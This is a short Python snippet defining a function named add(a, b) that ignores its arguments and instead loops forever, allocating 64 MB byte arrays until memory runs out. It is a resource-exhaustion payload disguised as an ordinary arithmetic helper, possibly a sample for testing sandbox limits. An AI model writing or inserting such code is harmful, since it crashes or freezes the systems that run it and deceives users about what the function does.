def add(a, b):
    hog = []
    while True:
        hog.append(bytearray(64 * 1024**2))
